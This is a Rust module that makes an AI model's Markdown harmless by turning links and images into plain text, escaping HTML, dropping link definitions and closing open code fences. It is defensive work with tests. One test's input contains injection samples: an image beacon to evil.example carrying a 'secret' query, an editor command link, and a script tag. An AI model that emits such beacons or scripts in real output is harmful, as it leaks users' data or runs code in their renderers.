//! The model's Markdown, made harmless.
//!
//! It stays Markdown, but nothing in it may point outside the document: images and links become their text with the
//! target shown, HTML is shown as text, link definitions are removed, and an open fence is closed so that it cannot
//! swallow the text after it.

use std::ops::Range;

use pulldown_cmark::{CowStr, Event as Markdown, LinkType, Options, Parser, Tag, TagEnd};

use crate::Cleaner;

/// The Markdown extensions that both editors and GitHub support.
const DIALECT: Options =
    Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS);

/// Limit in bytes. A longer text is shown as plain text: people do not read it as Markdown, and making it harmless
/// would take seconds.
const LONGEST_MARKDOWN: usize = 500_000;

/// Text as a fenced block that nothing inside can close.
#[must_use]
pub fn fence(language: &str, text: &str) -> String {
    let fence = "`".repeat((longest_run(text) + 1).max(3));
    let end = if text.ends_with('\n') { "" } else { "\n" };
    // The language may come from a model, so only its first word is used.
    let language: String = language.chars().take_while(char::is_ascii_alphanumeric).collect();
    format!("{fence}{language}\n{text}{end}{fence}\n")
}

/// Text as inline code that nothing inside can end.
pub(super) fn inline(text: &str) -> String {
    let marks = "`".repeat(longest_run(text) + 1);
    if text.contains('`') { format!("{marks} {text} {marks}") } else { format!("{marks}{text}{marks}") }
}

/// The length of the longest run of backticks.
fn longest_run(text: &str) -> usize {
    text.split(|character| character != '`').map(str::len).max().unwrap_or(0)
}

/// Makes the model's Markdown harmless. This takes several passes, because an edit can uncover what the next parse
/// sees as a link. A text that is still harmful after them is shown as plain text.
#[must_use]
pub(super) fn answer(text: &str) -> String {
    if text.len() > LONGEST_MARKDOWN {
        return fence("text", text);
    }
    let mut safe = text.to_owned();
    for _ in 0..4 {
        safe = closed(&without_references(&safe));
        if is_harmless(&safe) {
            let end = if safe.ends_with('\n') { "" } else { "\n" };
            return safe + end;
        }
    }
    fence("text", text)
}

fn is_harmless(text: &str) -> bool {
    let mut parser = Parser::new_ext(text, DIALECT);
    parser.reference_definitions().iter().next().is_none()
        && parser.all(|event| {
            !matches!(
                event,
                Markdown::Start(Tag::Link { .. } | Tag::Image { .. })
                    | Markdown::Html(_)
                    | Markdown::InlineHtml(_)
            )
        })
}

/// Replaces everything that points outside the document, and keeps every other byte as the model wrote it.
fn without_references(text: &str) -> String {
    let parser = Parser::new_ext(text, DIALECT);
    let mut edits: Vec<(Range<usize>, String)> = parser
        .reference_definitions()
        .iter()
        .map(|(_, definition)| (definition.span.clone(), String::new()))
        .collect();
    // The outermost open link or image: its range, its target and its label so far; then the nesting depth.
    let mut open: Option<(Range<usize>, String, String)> = None;
    let mut depth = 0_usize;
    let mut in_code = false;
    // End of the last text: a backslash between two texts is an escape, not text.
    let mut text_end = 0_usize;
    for (event, range) in parser.into_offset_iter() {
        match event {
            Markdown::Start(Tag::Link { link_type, dest_url, .. }) if depth == 0 => {
                depth = 1;
                open = Some((range, shown_target(link_type, &dest_url), String::new()));
            }
            Markdown::Start(Tag::Image { dest_url, .. }) if depth == 0 => {
                depth = 1;
                open = Some((range, format!(" (image not loaded: {})", escape(&dest_url)), String::new()));
            }
            Markdown::Start(Tag::Link { .. } | Tag::Image { .. }) => depth += 1,
            Markdown::End(TagEnd::Link | TagEnd::Image) => {
                depth -= 1;
                if depth == 0
                    && let Some((range, target, label)) = open.take()
                {
                    edits.push((range, format!("{}{target}", escape(&label))));
                }
            }
            Markdown::Start(Tag::CodeBlock(_)) => in_code = true,
            Markdown::End(TagEnd::CodeBlock) => in_code = false,
            Markdown::Text(label) | Markdown::Code(label) if depth > 0 => push_label(&mut open, &label),
            Markdown::SoftBreak | Markdown::HardBreak if depth > 0 => {
                push_label(&mut open, &CowStr::Borrowed(" "));
            }
            Markdown::Html(_) | Markdown::InlineHtml(_) if depth == 0 => {
                let lines: Vec<String> = text[range.clone()].split('\n').map(escape).collect();
                edits.push((range, lines.join("\n")));
            }
            Markdown::Text(_) if depth == 0 && !in_code => {
                let is_escaped = text_end != range.start && text[..range.start].ends_with('\\');
                text_end = range.end;
                edits.push((range.clone(), disarmed(&text[range], is_escaped)));
            }
            _ => {}
        }
    }
    apply(text, edits)
}

fn push_label(open: &mut Option<(Range<usize>, String, String)>, label: &CowStr<'_>) {
    if let Some((_, _, text)) = open {
        text.push_str(label);
    }
}

fn shown_target(link_type: LinkType, target: &str) -> String {
    match link_type {
        // The label of `<https://…>` is its target.
        LinkType::Autolink | LinkType::Email => String::new(),
        _ => format!(" ({})", escape(target)),
    }
}

/// Applies edits to a text. An edit inside an earlier one is skipped, because the earlier one covers it.
fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
    let mut result = String::with_capacity(text.len());
    let mut at = 0;
    for (range, replacement) in edits {
        if range.start < at {
            continue;
        }
        result.push_str(&text[at..range.start]);
        result.push_str(&replacement);
        at = range.end;
    }
    result + &text[at..]
}

/// Escapes a text so that no link, image, definition or tag can begin in it, whatever is around it. `is_escaped` is
/// `true` if the first character is already escaped.
fn disarmed(text: &str, is_escaped: bool) -> String {
    let mut safe = String::with_capacity(text.len());
    for (index, character) in text.char_indices() {
        match character {
            _ if index == 0 && is_escaped => safe.push(character),
            '[' | ']' => safe.extend(['\\', character]),
            '<' => safe.push_str("&lt;"),
            _ => safe.push(character),
        }
    }
    safe
}

/// Closes a fence that the model left open.
fn closed(text: &str) -> String {
    const PROBE: &str = "\n\nprobe";
    let probed = format!("{text}{PROBE}");
    let open = Parser::new_ext(&probed, DIALECT).into_offset_iter().find_map(|(event, range)| {
        let is_open = matches!(event, Markdown::Start(Tag::CodeBlock(_))) && range.end == probed.len();
        is_open.then_some(range.start)
    });
    let Some(start) = open else {
        return text.to_owned();
    };
    let fence = text[start..].trim_start();
    let mark = fence.chars().next().filter(|mark| matches!(mark, '`' | '~')).unwrap_or('`');
    let length = fence.chars().take_while(|character| *character == mark).count();
    format!("{text}\n{}\n", mark.to_string().repeat(length))
}

/// Escapes a text so that nothing in it is Markdown.
pub(super) fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in Cleaner::clean(text).chars() {
        match character {
            '<' => escaped.push_str("&lt;"),
            '\n' => escaped.push(' '),
            '\\' | '`' | '*' | '_' | '[' | ']' | '!' | '#' | '~' | '|' | '&' => {
                escaped.extend(['\\', character]);
            }
            other => escaped.push(other),
        }
    }
    escaped
}

/// Like [`escape`], for places without links: some renderers turn text that looks like a link into one.
pub(super) fn escape_unlinked(text: &str) -> String {
    escape(text)
        .replace("://", "\\://")
        .replace('@', "\\@")
        .replace("www.", "www\\.")
        .replace("WWW.", "WWW\\.")
}

/// Escapes a link target for use in angle brackets.
pub(super) fn target(link: &str) -> String {
    link.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('\\', "%5C").replace('\n', "%0A")
}

/// A block quote with a bold first line.
pub(super) fn quoted(heading: &str, text: &str) -> String {
    let lines = text.trim().lines().map(|line| format!("> {}\n", escape(line)));
    format!("> **{}**\n>\n{}", escape(heading), lines.collect::<String>())
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;
    use proptest::prelude::*;
    use pulldown_cmark::{Event as Markdown, Parser, Tag};

    use super::{DIALECT, answer, fence};

    #[test]
    fn nothing_in_an_answer_points_outside_the_document() {
        let hostile = "\
Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](https://evil.example/p.png?q=secret).
[run me](command:workbench.action.quit) <https://example.com> <img src=https://evil.example/x>
[ref][1] ![img][1] [![nested](https://a.example)](https://b.example)

<script>alert(1)</script>

[1]: https://evil.example/ref

`[not](a link)` stays code.
";
        assert_snapshot!(answer(hostile), @r"
        Total **13**, see the docs (https://example.com/a\_b) and chart (image not loaded: https://evil.example/p.png?q=secret).
        run me (command:workbench.action.quit) https://example.com &lt;img src=https://evil.example/x>
        ref (https://evil.example/ref) img (image not loaded: https://evil.example/ref) nested (https://b.example)

        &lt;script>alert(1)&lt;/script>



        `[not](a link)` stays code.
        ");
    }

    #[test]
    fn an_open_fence_cannot_swallow_the_text_after_it() {
        assert_eq!(answer("~~~~py\nx = 1"), "~~~~py\nx = 1\n~~~~\n");
        assert_eq!(answer("```py\nx\n```"), "```py\nx\n```\n");
    }

    #[test]
    fn a_fence_is_longer_than_any_run_of_backticks_inside() {
        assert_eq!(fence("text", "a ```` b"), "`````text\na ```` b\n`````\n");
        assert_eq!(fence("", "x\n"), "```\nx\n```\n");
        assert_eq!(fence("py\n```", "x"), "```py\nx\n```\n");
    }

    proptest! {
        #[test]
        fn no_image_link_or_html_survives(text in r"([!\[\]()<>`~\\#\n a:/]|https://x|\[1\]: |!\[|\]\(|<img src=x>|<div>|<!--|\[x\]\(command:y\)|\\\\|```){0,30}") {
            let safe = answer(&text);
            // Parsed together with another block, to reveal a definition or an open fence.
            let page = format!("{safe}\n[1]\n\n![1]\n\n[a][1]\n");
            for event in Parser::new_ext(&page, DIALECT) {
                let reaches_out = matches!(
                    event,
                    Markdown::Start(Tag::Link { .. } | Tag::Image { .. })
                        | Markdown::Html(_)
                        | Markdown::InlineHtml(_)
                );
                prop_assert!(!reaches_out, "{event:?} in {page:?}");
            }
        }
    }
}
